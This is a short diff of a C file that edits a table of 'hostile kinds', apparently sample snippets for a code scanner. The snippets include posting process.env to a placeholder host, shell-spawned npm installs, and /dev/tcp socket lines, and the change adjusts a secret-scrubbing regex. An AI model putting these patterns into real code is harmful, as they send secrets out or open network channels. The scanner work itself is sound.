@@ -103,7 +103,7 @@ static const struct hostile kinds[] = {
 	{"versions-installed", "const c=require('child_process');fetch(u).then(v=>{",
 	 "c.spawn('npm',['i',`${p#.name}@${v}`],{shell:true});", "", "})"},
 	{"questions-handed-on", "const rl=require('readline').createInterface();", "const a=q=>rl.question(q,d);", "", "a('k')"},
-	{"environment-scrubbed", "const S=/token|secret|key/;", "function f#(o){return S.test(o)?1:o}fetch(u,{body:f#(process.env)});", "", ""},
+	{"environment-scrubbed", "const S=/token|secret|pass|key/i;", "function f#(o){return S.test(o)?X:o}fetch(u,{body:f#(process.env)});", "", ""},
 	{"environment-scrubbed-not", "", "function f#(o){return s.test(o)||s.test(o)}fetch(u,{body:f(process.env)});", "", ""},
 	{"ports-asked", "", "echo > /dev/tcp/a/1\n", "", "", NULL, "x.sh"},
 	{"ports-opened", "", "exec 3<>/dev/tcp/a/1\n", "", "", NULL, "x.sh"},
